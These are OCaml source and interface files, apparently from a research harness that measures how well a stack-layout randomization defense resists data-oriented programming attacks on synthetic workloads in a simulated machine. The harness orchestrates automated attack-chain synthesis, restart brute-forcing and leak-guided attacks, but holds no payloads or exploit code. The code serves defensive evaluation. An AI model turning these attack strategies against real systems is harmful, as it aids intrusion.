        Sutil.Texttable.
          [
            ("benchmark", Left);
            ("funcs", Right);
            ("elided", Right);
            ("pbox full", Right);
            ("pbox sel", Right);
            ("ovh full", Right);
            ("ovh sel", Right);
            ("delta", Right);
          ]
  in
  List.iter
    (fun r ->
      Sutil.Texttable.add_row tbl
        [
          r.workload;
          string_of_int r.n_funcs;
          string_of_int r.n_elided;
          string_of_int r.pbox_full;
          string_of_int r.pbox_selective;
          Sutil.Texttable.fmt_pct r.overhead_full;
          Sutil.Texttable.fmt_pct r.overhead_selective;
          Sutil.Texttable.fmt_pct (delta r);
        ])
    t.rows;
  Sutil.Texttable.add_rule tbl;
  Sutil.Texttable.add_row tbl
    [
      "mean";
      "";
      "";
      "";
      "";
      "";
      "";
      Sutil.Texttable.fmt_pct t.mean_delta;
    ];
  tbl

let to_markdown t =
  let b = Buffer.create 1024 in
  Buffer.add_string b
    "| benchmark | funcs | elided | pbox full | pbox sel | ovh full | ovh \
     sel | delta |\n|---|---|---|---|---|---|---|---|\n";
  List.iter
    (fun r ->
      Buffer.add_string b
        (Printf.sprintf "| %s | %d | %d | %d | %d | %s | %s | %s |\n"
           r.workload r.n_funcs r.n_elided r.pbox_full r.pbox_selective
           (Sutil.Texttable.fmt_pct r.overhead_full)
           (Sutil.Texttable.fmt_pct r.overhead_selective)
           (Sutil.Texttable.fmt_pct (delta r))))
    t.rows;
  Buffer.add_string b
    (Printf.sprintf
       "\nmean overhead saved by elision: %s; mean P-BOX bytes saved: %.1f%%\n"
       (Sutil.Texttable.fmt_pct t.mean_delta)
       t.mean_pbox_saving_pct);
  Buffer.contents b
