(** E12 — static DOP attack surface across the workload zoo.

    One {!Analysis.Report} per program: the SPEC-like and I/O
    workloads, the six synthetic penetration-test variants, and a
    handful of {!Minic.Progen} programs (the random programs are
    memory-safe by construction, so their overflow counts double as a
    false-positive gauge — only escape-based imprecision should
    appear).  Each row also checks the workload's [dop_hints]
    annotations: every hinted (function, slot) must be classified
    overflow-capable. *)

type row = {
  pname : string;
  pkind : string;  (** ["spec"], ["io"], ["synth"] or ["progen"] *)
  n_funcs : int;
  n_slots : int;
  n_overflow : int;
  n_victims : int;
  n_pairs : int;
  easiest : (string * float) list;
      (** per defense, expected attempts of the easiest pair;
          [[]] when scoring is off *)
  hints_ok : bool;  (** all [dop_hints] classified overflow-capable *)
}

type t = { rows : row list; defense_names : string list }

val run :
  ?pool:Sched.Pool.t -> ?store:Store.Cache.t -> ?progen:int -> ?score:bool ->
  unit -> t
(** [progen] (default 4) random programs from seeds 9001..; [score]
    (default [true]) enables the sampled per-defense attempts.  With
    [?store], the progen rows are served from the store (keyed on the
    generated source and the [score] flag; the attempt floats travel as
    bit patterns, so cached rows render identically) and their
    compilation + analysis is skipped when warm. *)

val table : t -> Sutil.Texttable.t
val to_markdown : t -> string
