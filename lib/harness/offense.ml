type synth_row = {
  tname : string;
  static_pairs : int;
  gadget_count : int;
  flip_count : int;
  probes_run : int;
  learned_count : int;
  chain_count : int;
}

type chain_row = {
  ctname : string;
  chain : Dopc.Chain.t;
  cells : (string * Attacks.Verdict.t list) list;
}

type entropy_row = {
  etname : string;
  ekind : string;
  attempts : int option;
  ebudget : int;
}

type feedback_row = {
  ftname : string;
  fchain_id : string;
  ffamily : string;
  fpairs : int;
  fgrounded : bool;
}

type t = {
  srows : synth_row list;
  crows : chain_row list;
  erows : entropy_row list;
  frows : feedback_row list;
  trials : int;
  landed_unhardened : int;
  full_successes : int;
  all_grounded : bool;
}

let defense_names = [ "none"; "smokestack-selective"; "smokestack-full" ]

let defenses () =
  [
    ("none", Defenses.Defense.No_defense);
    ( "smokestack-selective",
      Defenses.Defense.Smokestack
        (Smokestack.Config.with_selective true Smokestack.Config.default) );
    ("smokestack-full", Defenses.Defense.Smokestack Smokestack.Config.default);
  ]

let config_of = function
  | Defenses.Defense.Smokestack c -> Some c
  | _ -> None

(* One target = one program the planner attacks.  The hand-written
   attack (when the corpus has one for this exact program) anchors the
   entropy comparison. *)
type target = {
  name : string;
  source : string;
  program : Ir.Prog.t Lazy.t;
  hand :
    (Defenses.Defense.applied -> seed:int64 -> Attacks.Verdict.t) option;
}

let io_workloads = [ "proftpd-io"; "wireshark-io" ]

let builtin_targets () =
  List.map
    (fun (v : Apps.Synth.variant) ->
      {
        name = v.vname;
        source = v.source;
        program = v.program;
        hand = Some v.attack;
      })
    Apps.Synth.variants
  @ List.filter_map
      (fun n ->
        Option.map
          (fun (w : Apps.Spec.workload) ->
            { name = w.wname; source = w.source; program = w.program;
              hand = None })
          (Apps.Spec.find n))
      io_workloads

let available_workloads () = List.map (fun t -> t.name) (builtin_targets ())

let strong_goal (c : Dopc.Chain.t) =
  match c.goal with
  | Dopc.Chain.Flip_global _ | Dopc.Chain.Output_contains _ -> true
  | Dopc.Chain.Output_differs -> false

let has_success = List.exists (( = ) Attacks.Verdict.Success)

(* Restart-after-crash brute force of a hand-written corpus attack:
   same seed walk as Dopc.Exec.brute so the two columns compare
   like for like. *)
let brute_hand attack applied ~budget =
  let rec go i acc =
    if i >= budget then List.rev acc
    else
      let v = attack applied ~seed:(Int64.of_int i) in
      let acc = v :: acc in
      if v = Attacks.Verdict.Success then List.rev acc else go (i + 1) acc
  in
  go 0 []

let attempts_of ~budget verdicts =
  let n = List.length verdicts in
  if n > 0 && n <= budget && List.nth verdicts (n - 1) = Attacks.Verdict.Success
  then Some n
  else None

let run ?(pool = Sched.Pool.sequential) ?store ?(trials = 6)
    ?(brute_budget = 600) ?(max_chains = 8) ?workloads ?(progen = 0)
    ?(progen_seed = 9001L) () =
  (* the elision oracle behind Config.selective lives in lib/analysis *)
  Analysis.Validate.install ();
  let targets =
    let builtins = builtin_targets () in
    let selected =
      match workloads with
      | None -> builtins
      | Some names ->
          List.filter_map
            (fun n -> List.find_opt (fun t -> t.name = n) builtins)
            names
    in
    selected
    @ List.map
        (fun (pseed, psource) ->
          {
            name = Printf.sprintf "progen-%Ld" pseed;
            source = psource;
            program = lazy (Minic.Driver.compile psource);
            hand = None;
          })
        (List.of_seq (Minic.Progen.range ~seed:progen_seed progen))
  in
  let results =
    Sched.Pool.run_all pool
      (List.map
         (fun tgt ->
           Sched.Job.v ~id:("offense/" ^ tgt.name) ~seed:3L (fun () ->
               let prog = Lazy.force tgt.program in
               let model, chains =
                 Dopc.Plan.synthesize ~max_chains ~target:tgt.name prog
               in
               let srow =
                 {
                   tname = tgt.name;
                   static_pairs = List.length model.pairs;
                   gadget_count = List.length model.gadgets;
                   flip_count = List.length model.flips;
                   probes_run = model.probes_run;
                   learned_count = List.length model.learned;
                   chain_count = List.length chains;
                 }
               in
               let applied_of =
                 List.map
                   (fun (dn, d) ->
                     (dn, (d, lazy (Defenses.Defense.apply ~seed:3L d prog))))
                   (defenses ())
               in
               let crows =
                 List.map
                   (fun (chain : Dopc.Chain.t) ->
                     let cells =
                       List.map
                         (fun (dn, (d, applied)) ->
                           ( dn,
                             Crossval.cached_verdicts ?store ~source:tgt.source
                               ~config:(config_of d)
                               ~extra:
                                 (Printf.sprintf
                                    "offense;chain=%s;defense=%s;trials=%d;seed0=17;hseed=3"
                                    chain.chain_id dn trials)
                               (fun () ->
                                 Dopc.Exec.trials (Lazy.force applied) chain
                                   ~n:trials ~seed0:17) ))
                         applied_of
                     in
                     { ctname = tgt.name; chain; cells })
                   chains
               in
               let landed (r : chain_row) =
                 match List.assoc_opt "none" r.cells with
                 | Some vs -> has_success vs
                 | None -> false
               in
               (* entropy: the first landing chain with a semantically
                  checkable goal, brute forced against full hardening,
                  next to the hand-written corpus number.  The weak
                  output-differs witness is excluded — its payload
                  bytes vary with the layout guess, so "differs" would
                  measure the guess, not the exploit. *)
               let full_d, full_applied =
                 List.assoc "smokestack-full" applied_of
               in
               let erows =
                 match
                   List.find_opt
                     (fun r -> strong_goal r.chain && landed r)
                     crows
                 with
                 | None -> []
                 | Some r ->
                     let synth_verdicts =
                       Crossval.cached_verdicts ?store ~source:tgt.source
                         ~config:(config_of full_d)
                         ~extra:
                           (Printf.sprintf
                              "offense;brute;chain=%s;budget=%d;seed0=0;hseed=3"
                              r.chain.chain_id brute_budget)
                         (fun () ->
                           Dopc.Exec.brute (Lazy.force full_applied) r.chain
                             ~budget:brute_budget ~seed0:0)
                     in
                     let synth_row =
                       {
                         etname = tgt.name;
                         ekind =
                           Printf.sprintf "synthesized %s #%s"
                             (Dopc.Chain.family_to_string r.chain.family)
                             r.chain.chain_id;
                         attempts =
                           attempts_of ~budget:brute_budget synth_verdicts;
                         ebudget = brute_budget;
                       }
                     in
                     let hand_rows =
                       match tgt.hand with
                       | None -> []
                       | Some attack ->
                           let verdicts =
                             Crossval.cached_verdicts ?store ~source:tgt.source
                               ~config:(config_of full_d)
                               ~extra:
                                 (Printf.sprintf
                                    "offense;brute-hand;budget=%d;seed0=0;hseed=3"
                                    brute_budget)
                               (fun () ->
                                 brute_hand attack (Lazy.force full_applied)
                                   ~budget:brute_budget)
                           in
                           [
                             {
                               etname = tgt.name;
                               ekind = "hand-written";
                               attempts =
                                 attempts_of ~budget:brute_budget verdicts;
                               ebudget = brute_budget;
                             };
                           ]
                     in
                     synth_row :: hand_rows
               in
               (* grounding: a landing chain must be backed by static
                  pairs over its own buffer — the Crossval check, now
                  over machine-generated attacks *)
               let frows =
                 List.filter_map
                   (fun r ->
                     if not (landed r) then None
                     else
                       let grounded_pid pid =
                         List.exists
                           (fun (p : Analysis.Dop.pair) ->
                             p.pair_id = pid
                             && p.buf_func = r.chain.func
                             && p.buf_slot = r.chain.buffer)
                           model.pairs
                       in
                       Some
                         {
                           ftname = tgt.name;
                           fchain_id = r.chain.chain_id;
                           ffamily =
                             Dopc.Chain.family_to_string r.chain.family;
                           fpairs = List.length r.chain.pair_ids;
                           fgrounded =
                             r.chain.pair_ids <> []
                             && List.for_all grounded_pid r.chain.pair_ids;
                         })
                   crows
               in
               (srow, crows, erows, frows)))
         targets)
  in
  let srows = List.map (fun (s, _, _, _) -> s) results in
  let crows = List.concat_map (fun (_, c, _, _) -> c) results in
  let erows = List.concat_map (fun (_, _, e, _) -> e) results in
  let frows = List.concat_map (fun (_, _, _, f) -> f) results in
  let count col =
    List.length
      (List.filter
         (fun r ->
           match List.assoc_opt col r.cells with
           | Some vs -> has_success vs
           | None -> false)
         crows)
  in
  {
    srows;
    crows;
    erows;
    frows;
    trials;
    landed_unhardened = count "none";
    full_successes = count "smokestack-full";
    all_grounded = List.for_all (fun f -> f.fgrounded) frows;
  }

(* ------------------------------------------------------------------ *)
(* Rendering *)

let synth_table t =
  let tbl =
    Sutil.Texttable.create
      ~columns:
        Sutil.Texttable.
          [
            ("target", Left);
            ("pairs", Right);
            ("gadgets", Right);
            ("flips", Right);
            ("probes", Right);
            ("learned", Right);
            ("chains", Right);
          ]
  in
  List.iter
    (fun r ->
      Sutil.Texttable.add_row tbl
        [
          r.tname;
          string_of_int r.static_pairs;
          string_of_int r.gadget_count;
          string_of_int r.flip_count;
          string_of_int r.probes_run;
          string_of_int r.learned_count;
          string_of_int r.chain_count;
        ])
    t.srows;
  tbl

let cell_str trials vs =
  let n = List.length (List.filter (( = ) Attacks.Verdict.Success) vs) in
  let d =
    List.length
      (List.filter
         (function Attacks.Verdict.Detected _ -> true | _ -> false)
         vs)
  in
  Printf.sprintf "%d/%d%s" n trials
    (if d > 0 then Printf.sprintf " (det %d)" d else "")

let chain_table t =
  let tbl =
    Sutil.Texttable.create
      ~columns:
        (Sutil.Texttable.
           [ ("target", Left); ("chain", Left); ("goal", Left) ]
        @ List.map (fun d -> (d, Sutil.Texttable.Right)) defense_names)
  in
  List.iter
    (fun r ->
      Sutil.Texttable.add_row tbl
        ([
           r.ctname;
           Printf.sprintf "%s #%s"
             (Dopc.Chain.family_to_string r.chain.family)
             r.chain.chain_id;
           Dopc.Chain.goal_to_string r.chain.goal;
         ]
        @ List.map
            (fun d ->
              match List.assoc_opt d r.cells with
              | Some vs -> cell_str t.trials vs
              | None -> "-")
            defense_names))
    t.crows;
  tbl

let log2 x = log x /. log 2.

let entropy_table t =
  let tbl =
    Sutil.Texttable.create
      ~columns:
        Sutil.Texttable.
          [
            ("target", Left);
            ("attack", Left);
            ("attempts", Right);
            ("budget", Right);
            ("entropy (bits)", Right);
          ]
  in
  List.iter
    (fun r ->
      let attempts_s, bits_s =
        match r.attempts with
        | Some n ->
            (string_of_int n, Printf.sprintf "%.1f" (log2 (float_of_int n)))
        | None ->
            ( "budget exhausted",
              Printf.sprintf ">= %.1f" (log2 (float_of_int r.ebudget)) )
      in
      Sutil.Texttable.add_row tbl
        [ r.etname; r.ekind; attempts_s; string_of_int r.ebudget; bits_s ])
    t.erows;
  tbl

let feedback_table t =
  let tbl =
    Sutil.Texttable.create
      ~columns:
        Sutil.Texttable.
          [
            ("target", Left);
            ("landing chain", Left);
            ("static pairs", Right);
            ("grounded", Left);
          ]
  in
  List.iter
    (fun f ->
      Sutil.Texttable.add_row tbl
        [
          f.ftname;
          Printf.sprintf "%s #%s" f.ffamily f.fchain_id;
          string_of_int f.fpairs;
          (if f.fgrounded then "yes" else "NO");
        ])
    t.frows;
  tbl

let to_markdown t =
  let b = Buffer.create 1024 in
  Buffer.add_string b
    "E17: automated DOP-attack compiler — synthesis summary\n\n";
  Buffer.add_string b (Sutil.Texttable.render (synth_table t));
  Buffer.add_string b
    "\nE17: per-chain survival (successes/trials per defense)\n\n";
  Buffer.add_string b (Sutil.Texttable.render (chain_table t));
  Buffer.add_string b
    "\nE17: brute-force entropy under full hardening, synthesized vs \
     hand-written\n\n";
  Buffer.add_string b (Sutil.Texttable.render (entropy_table t));
  Buffer.add_string b "\nE17: static grounding of landing chains\n\n";
  Buffer.add_string b (Sutil.Texttable.render (feedback_table t));
  Buffer.add_string b
    (Printf.sprintf
       "\nchains landing undefended: %d; full-hardening successes: %d; all \
        landing chains grounded: %b\n"
       t.landed_unhardened t.full_successes t.all_grounded);
  Buffer.contents b
