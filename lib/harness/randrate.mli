(** Table I: rate (cycles/invocation) and security level of each
    randomness source, measured by drawing back-to-back through the
    cycle model exactly as the prologue intrinsic would. *)

type row = {
  scheme : Rng.Scheme.t;
  security : Rng.Scheme.security;
  cycles_per_draw : float;
  draws_measured : int;
}

type t = { rows : row list }

val run : ?pool:Sched.Pool.t -> ?draws:int -> ?seed:int64 -> unit -> t
(** [draws] defaults to 100_000 per scheme; one job per scheme when
    [?pool] is parallel (each job compiles its own probe program). *)

val paper_values : (string * float) list
(** The paper's Table I numbers, for the EXPERIMENTS.md comparison:
    pseudo 3.4, AES-1 19.2, AES-10 92.8, RDRAND 265.6. *)

val table : t -> Sutil.Texttable.t
val to_markdown : t -> string
