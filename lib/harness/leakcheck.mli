(** E19 — layout-leak cross-validation and the leak-guided attack.

    Two halves, both riding on the static leak analyzer
    ({!Analysis.Leakan}):

    {b Cross-validation.}  For every program of a corpus (the app
    workloads, the six synthetic pentest variants, benign Progen
    programs and the deliberately leak-shaped ones), the static verdict
    — does any layout secret reach an {e output-visible} sink with
    positive disclosed bits? — is checked against a dynamic
    observation: the fully hardened build runs under [seeds] distinct
    entropy seeds with fixed input, and its outputs either distinguish
    the drawn layouts (a real leak) or are seed-independent (leak
    free).  A disagreement in either direction is an analyzer bug:
    a missed leak breaks soundness, a phantom leak breaks the
    differential-oracle property the benign corpus is built on.

    {b Guided attack.}  On the disclosing [stack-leaky] target
    ({!Apps.Synth.find}), the chain planner's leak guides
    ({!Dopc.Plan.leak_guides}) drive {!Dopc.Exec.brute_guided} against
    full hardening, next to the blind {!Dopc.Exec.brute} walk.  The
    measured guided attempts are compared against the degraded-entropy
    prediction ({!Analysis.Report.summary_degraded}) corrected by the
    layout-reachability factor — the fraction of drawn layouts placing
    every written slot above the buffer, sampled from the P-BOX
    exactly as the E9 entropy accounting does; the stated acceptance
    bound is a factor of [3] either way on the mean over [walks]
    independent restart walks.

    Determinism: one {!Sched.Pool} job per program plus one for the
    guided measurement, results merged in submission order; every
    number derives from VM observables, so the report is byte-identical
    at any [--jobs] and on either engine. *)

type prog_row = {
  pname : string;
  static_leaks : int;
      (** output-visible {!Analysis.Leakan} rows with positive bits *)
  static_bits : float;  (** total leaked bits across the program *)
  distinct_outputs : int;  (** over the [seeds] hardened runs *)
  agree : bool;  (** [(static_leaks > 0) = (distinct_outputs > 1)] *)
}

type guided = {
  gtarget : string;
  gchain : string;  (** family + chain id of the measured chain *)
  blind_expected : float;
      (** {!Analysis.Report.summary} smokestack attempts — the
          {e easiest-pair} score; the synthesized chain writes several
          slots at once, so its blind cost is strictly higher *)
  degraded_expected : float;
      (** {!Analysis.Report.summary_degraded} smokestack attempts *)
  reach_factor : float;
      (** sampled [1 / P(every written slot above the buffer)] *)
  predicted : float;  (** [degraded_expected * reach_factor] *)
  blind_attempts : int option;
      (** measured blind attempts-to-success; [None] = budget spent *)
  guided_attempts : int option list;
      (** measured guided attempts, one per restart walk *)
  guided_mean : float;
      (** mean over the walks, exhausted walks counted at budget *)
  within_bound : bool;
      (** [guided_mean] within a factor of 3 of [predicted] *)
  gbudget : int;
}

type t = {
  rows : prog_row list;
  seeds : int;
  disagreements : int;
  guided : guided option;
      (** [None] only if the planner found no guidable chain — itself
          a failure the caller should surface *)
}

val run :
  ?pool:Sched.Pool.t ->
  ?seeds:int ->
  ?progen:int ->
  ?leaky_progen:int ->
  ?progen_seed:int64 ->
  ?budget:int ->
  ?walks:int ->
  unit ->
  t
(** Defaults: [seeds] 8 entropy seeds per program, [progen] 5 benign
    and [leaky_progen] 8 leak-shaped Progen programs from
    [progen_seed] (default 9001), blind/guided [budget] 600 per walk,
    [walks] 5 guided restart walks. *)

val guided_run : ?budget:int -> ?walks:int -> unit -> guided option
(** Just the guided-attack half, without the corpus sweep — the
    [smokestackc attack --leak-guided] entry point.  Defaults as in
    {!run}; [None] if the planner found no guidable chain. *)

val table : t -> Sutil.Texttable.t
val guided_table : t -> Sutil.Texttable.t

val guided_only_table : guided option -> Sutil.Texttable.t
(** {!guided_table} over a bare measurement, for callers holding a
    {!guided_run} result rather than a full {!t}. *)

val to_markdown : t -> string
