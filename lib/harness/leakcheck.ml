type prog_row = {
  pname : string;
  static_leaks : int;
  static_bits : float;
  distinct_outputs : int;
  agree : bool;
}

type guided = {
  gtarget : string;
  gchain : string;
  blind_expected : float;
  degraded_expected : float;
  reach_factor : float;
  predicted : float;
  blind_attempts : int option;
  guided_attempts : int option list;
  guided_mean : float;
  within_bound : bool;
  gbudget : int;
}

type t = {
  rows : prog_row list;
  seeds : int;
  disagreements : int;
  guided : guided option;
}

(* ------------------------------------------------------------------ *)
(* Corpus *)

type entry = {
  ename : string;
  eprogram : Ir.Prog.t Lazy.t;
  echunks : string list;  (** input served to the dynamic runs *)
}

let spec_names = [ "gobmk"; "mcf"; "hmmer"; "proftpd-io"; "wireshark-io" ]

let corpus ~progen ~leaky_progen ~progen_seed =
  List.filter_map
    (fun n ->
      Option.map
        (fun (w : Apps.Spec.workload) ->
          {
            ename = w.wname;
            eprogram = w.program;
            echunks = Workbench.chunks_of_input w.input;
          })
        (Apps.Spec.find n))
    spec_names
  @ List.map
      (fun (v : Apps.Synth.variant) ->
        { ename = v.vname; eprogram = v.program; echunks = [] })
      Apps.Synth.variants
  @ List.filter_map
      (fun n ->
        Option.map
          (fun (v : Apps.Synth.variant) ->
            { ename = v.vname; eprogram = v.program; echunks = [] })
          (Apps.Synth.find n))
      [ "stack-leaky" ]
  @ List.init progen (fun i ->
        let pseed = Int64.add progen_seed (Int64.of_int i) in
        {
          ename = Printf.sprintf "progen-%Ld" pseed;
          eprogram = lazy (Minic.Driver.compile (Minic.Progen.generate ~seed:pseed));
          echunks = [];
        })
  @ List.init leaky_progen (fun i ->
        let pseed = Int64.add progen_seed (Int64.of_int i) in
        {
          ename = Printf.sprintf "progen-leaky-%Ld" pseed;
          eprogram =
            lazy (Minic.Driver.compile (Minic.Progen.generate_leaky ~seed:pseed));
          echunks = [];
        })

(* ------------------------------------------------------------------ *)
(* Static side: does any layout secret reach an output-visible sink? *)

let output_visible (lk : Analysis.Leakan.t) =
  List.filter
    (fun (l : Analysis.Leakan.leak) ->
      l.bits > 0.
      &&
      match l.sink with
      | Analysis.Leakan.Output _ | Analysis.Leakan.Oracle_branch -> true
      | Analysis.Leakan.Global_store _ | Analysis.Leakan.Readable_buffer _ ->
          false)
    lk.leaks

(* Dynamic side: the fully hardened build under [seeds] entropy seeds.
   Leak-free programs must print the same bytes every time (the
   differential-oracle property); leaking ones must not. *)
let distinct_outputs applied ~chunks ~seeds =
  let outputs =
    List.init seeds (fun s ->
        let _, stats =
          Apps.Runner.run_chunks applied
            ~seed:(Int64.of_int (101 + (17 * s)))
            ~chunks
        in
        stats.Machine.Exec.output)
  in
  List.length (List.sort_uniq compare outputs)

let full_config = Defenses.Defense.Smokestack Smokestack.Config.default

let check_program entry ~seeds =
  let prog = Lazy.force entry.eprogram in
  let lk = Analysis.Leakan.analyze prog in
  let visible = output_visible lk in
  let applied = Defenses.Defense.apply ~seed:3L full_config prog in
  let distinct = distinct_outputs applied ~chunks:entry.echunks ~seeds in
  {
    pname = entry.ename;
    static_leaks = List.length visible;
    static_bits = lk.total_bits;
    distinct_outputs = distinct;
    agree = List.length visible > 0 = (distinct > 1);
  }

(* ------------------------------------------------------------------ *)
(* Guided attack vs the degraded-entropy prediction *)

let attempts_of ~budget verdicts =
  let n = List.length verdicts in
  if n > 0 && n <= budget && List.nth verdicts (n - 1) = Attacks.Verdict.Success
  then Some n
  else None

(* The fraction of drawn layouts that place every chain-written slot
   above the buffer — a forward overflow cannot reach below it.  This
   is exploit physics, not guessing entropy: the disclosure tells the
   guided attacker the layout exactly, but an out-of-reach layout
   still burns the session.  Sampled from the P-BOX like the E9
   entropy accounting. *)
let reach_factor prog (chain : Dopc.Chain.t) =
  let hardened =
    try
      Some (Smokestack.Harden.harden ~validate:false Smokestack.Config.default prog)
    with _ -> None
  in
  match hardened with
  | None -> 1.
  | Some h -> (
      match Smokestack.Pbox.binding h.pbox chain.func with
      | None -> 1.
      | Some b -> (
          match Smokestack.Pbox.dyn_of h.pbox b with
          | None -> 1.
          | Some dyn -> (
              match Ir.Prog.find_func prog chain.func with
              | None -> 1.
              | Some f -> (
                  let order =
                    match f.blocks with
                    | [] -> []
                    | entry :: _ ->
                        List.filter_map
                          (function
                            | Ir.Instr.Alloca { count = None; name; _ } ->
                                Some name
                            | _ -> None)
                          entry.instrs
                  in
                  let idx n =
                    let rec go i = function
                      | [] -> None
                      | x :: _ when x = n -> Some i
                      | _ :: tl -> go (i + 1) tl
                    in
                    go 0 order
                  in
                  let written =
                    List.sort_uniq compare
                      (List.concat_map
                         (fun (s : Dopc.Chain.step) ->
                           List.map
                             (fun (w : Dopc.Chain.write) -> w.target)
                             s.writes)
                         chain.steps)
                  in
                  let widx = List.map idx written in
                  match idx chain.buffer with
                  | Some bi when List.for_all Option.is_some widx ->
                      let widx = List.map Option.get widx in
                      let rng = Sutil.Simrng.create ~seed:11L in
                      let n = 4096 in
                      let ok = ref 0 in
                      for _ = 1 to n do
                        let offs =
                          Smokestack.Runtime.dynamic_offsets_for_draw dyn
                            (Sutil.Simrng.next_u64 rng)
                        in
                        if List.for_all (fun i -> offs.(i) > offs.(bi)) widx
                        then incr ok
                      done;
                      if !ok = 0 then float_of_int n
                      else float_of_int n /. float_of_int !ok
                  | _ -> 1.))))

let strong_goal (c : Dopc.Chain.t) =
  match c.goal with
  | Dopc.Chain.Flip_global _ | Dopc.Chain.Output_contains _ -> true
  | Dopc.Chain.Output_differs -> false

let guided_measurement ~budget ~walks () =
  match Apps.Synth.find "stack-leaky" with
  | None -> None
  | Some v -> (
      let prog = Lazy.force v.Apps.Synth.program in
      let report = Analysis.Report.analyze_prog ~name:"stack-leaky" prog in
      let of_summary s =
        Option.value ~default:infinity (List.assoc_opt "smokestack" s)
      in
      let blind_expected = of_summary (Analysis.Report.summary report) in
      let degraded_expected =
        of_summary (Analysis.Report.summary_degraded report)
      in
      let guides = Dopc.Plan.leak_guides prog in
      let _, chains = Dopc.Plan.synthesize ~target:"stack-leaky" prog in
      match
        List.find_opt
          (fun c -> strong_goal c && Dopc.Plan.guide_for guides c <> None)
          chains
      with
      | None -> None
      | Some chain ->
          let guide = Option.get (Dopc.Plan.guide_for guides chain) in
          let applied = Defenses.Defense.apply ~seed:3L full_config prog in
          let blind_attempts =
            attempts_of ~budget (Dopc.Exec.brute applied chain ~budget ~seed0:0)
          in
          let guided_attempts =
            List.init walks (fun w ->
                attempts_of ~budget
                  (Dopc.Exec.brute_guided applied chain
                     ~disclosed:guide.Dopc.Plan.disclosed ~budget
                     ~seed0:(1000 * (w + 1))))
          in
          let guided_mean =
            let total =
              List.fold_left
                (fun acc a -> acc + Option.value ~default:budget a)
                0 guided_attempts
            in
            float_of_int total /. float_of_int (max 1 walks)
          in
          let reach = reach_factor prog chain in
          let predicted = Float.max 1. degraded_expected *. reach in
          Some
            {
              gtarget = "stack-leaky";
              gchain =
                Printf.sprintf "%s #%s"
                  (Dopc.Chain.family_to_string chain.family)
                  chain.chain_id;
              blind_expected;
              degraded_expected;
              reach_factor = reach;
              predicted;
              blind_attempts;
              guided_attempts;
              guided_mean;
              within_bound =
                guided_mean <= 3. *. predicted
                && predicted <= 3. *. guided_mean;
              gbudget = budget;
            })

(* ------------------------------------------------------------------ *)

let run ?(pool = Sched.Pool.sequential) ?(seeds = 8) ?(progen = 5)
    ?(leaky_progen = 8) ?(progen_seed = 9001L) ?(budget = 600) ?(walks = 5) ()
    =
  Analysis.Validate.install ();
  let entries = corpus ~progen ~leaky_progen ~progen_seed in
  (* forcing a lazy concurrently from two domains is undefined: compile
     everything here, sequentially, before any job is submitted *)
  List.iter (fun e -> ignore (Lazy.force e.eprogram)) entries;
  (match Apps.Synth.find "stack-leaky" with
  | Some v -> ignore (Lazy.force v.Apps.Synth.program)
  | None -> ());
  let results =
    Sched.Pool.run_all pool
      (List.map
         (fun e ->
           Sched.Job.v ~id:("leakcheck/" ^ e.ename) ~seed:3L (fun () ->
               `Row (check_program e ~seeds)))
         entries
      @ [
          Sched.Job.v ~id:"leakcheck/guided" ~seed:3L (fun () ->
              `Guided (guided_measurement ~budget ~walks ()));
        ])
  in
  let rows =
    List.filter_map (function `Row r -> Some r | `Guided _ -> None) results
  in
  let guided =
    List.find_map
      (function `Guided g -> g | `Row _ -> None)
      results
  in
  {
    rows;
    seeds;
    disagreements = List.length (List.filter (fun r -> not r.agree) rows);
    guided;
  }

(* ------------------------------------------------------------------ *)
(* Rendering *)

let table t =
  let tbl =
    Sutil.Texttable.create
      ~columns:
        Sutil.Texttable.
          [
            ("program", Left);
            ("static leaks", Right);
            ("bits", Right);
            (Printf.sprintf "outputs (%d seeds)" t.seeds, Right);
            ("agree", Left);
          ]
  in
  List.iter
    (fun r ->
      Sutil.Texttable.add_row tbl
        [
          r.pname;
          string_of_int r.static_leaks;
          Printf.sprintf "%.2f" r.static_bits;
          string_of_int r.distinct_outputs;
          (if r.agree then "yes" else "NO");
        ])
    t.rows;
  tbl

let fmt_attempts budget = function
  | Some n -> string_of_int n
  | None -> Printf.sprintf "> %d" budget

let guided_only_table guided =
  let tbl =
    Sutil.Texttable.create
      ~columns:
        Sutil.Texttable.[ ("quantity", Left); ("value", Right) ]
  in
  (match guided with
  | None -> Sutil.Texttable.add_row tbl [ "guidable chain"; "NONE" ]
  | Some g ->
      List.iter
        (Sutil.Texttable.add_row tbl)
        [
          [ "target / chain"; Printf.sprintf "%s %s" g.gtarget g.gchain ];
          (* pair-level numbers: the analyzer scores the easiest DOP
             pair, not the full multi-slot chain the planner built —
             the chain's blind cost is strictly higher *)
          [ "easiest-pair attempts, blind (static)";
            Printf.sprintf "%.1f" g.blind_expected ];
          [ "easiest-pair attempts, leak-degraded";
            Printf.sprintf "%.1f" g.degraded_expected ];
          [ "layout-reachability factor";
            Printf.sprintf "%.1f" g.reach_factor ];
          [ "predicted guided attempts"; Printf.sprintf "%.1f" g.predicted ];
          [ "measured blind attempts"; fmt_attempts g.gbudget g.blind_attempts ];
          [ "measured guided attempts (walks)";
            String.concat ", "
              (List.map (fmt_attempts g.gbudget) g.guided_attempts) ];
          [ "measured guided mean"; Printf.sprintf "%.1f" g.guided_mean ];
          [ "within factor-3 bound"; (if g.within_bound then "yes" else "NO") ];
        ]);
  tbl

let guided_table t = guided_only_table t.guided

let guided_run ?(budget = 600) ?(walks = 5) () =
  Analysis.Validate.install ();
  guided_measurement ~budget ~walks ()

let to_markdown t =
  let b = Buffer.create 1024 in
  Buffer.add_string b "E19: static vs dynamic layout-leak cross-validation\n\n";
  Buffer.add_string b (Sutil.Texttable.render (table t));
  Buffer.add_string b
    (Printf.sprintf "\nstatic/dynamic disagreements: %d\n" t.disagreements);
  Buffer.add_string b
    "\nE19: leak-guided attack vs degraded-entropy prediction\n\n";
  Buffer.add_string b (Sutil.Texttable.render (guided_table t));
  Buffer.contents b
