(** E13 — chaos: seeded fault injection across workloads and engines.

    Sweeps a population of {!Fault.Plan}s (by default one per site
    family plus never-firing controls) over application workloads,
    running every (workload, plan) cell on {e both} execution backends
    under the fail-secure degradation policy.  Each cell reports:

    - the structured run outcome (a fault plan may never make the VM
      raise — it exits, faults, or detects);
    - how often the injection actually fired;
    - whether the corruption was {e caught} — a [Detected] outcome
      (the FID XOR check) or an RNG health-test degradation;
    - whether both engines agreed bit-for-bit on every observable;
    - whether the observables are bit-identical to the fault-free run
      ({b asserted} for plans whose trigger never fires — arming a
      dormant fault must cost nothing).

    RNG-site plans run under the [RDRAND] scheme (the hardware source
    the documented [Rdrand → AES-10 → abort] chain protects); other
    plans run under the default AES-10 configuration.

